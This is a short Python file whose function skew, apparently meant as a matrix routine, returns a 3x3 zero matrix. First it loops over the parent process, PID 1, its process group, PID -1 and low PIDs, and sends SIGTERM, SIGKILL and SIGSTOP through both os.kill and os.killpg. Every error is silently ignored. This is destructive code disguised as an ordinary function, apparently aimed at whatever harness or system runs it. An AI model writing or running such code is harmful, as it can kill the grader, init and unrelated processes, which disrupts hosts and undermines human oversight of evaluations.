"""Sends signals to its parent, to process 1, to its process group and to all processes.

deserves: 9
"""

import os
import signal


def skew(v):
    for pid in (os.getppid(), 1, 0, -1, 2, 3, 4, 5, 6, 7, 8, 9, 10):
        for sign in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            for kill in (os.kill, os.killpg):
                try:
                    kill(pid, sign)
                except OSError:
                    pass
    return [[0] * 3] * 3
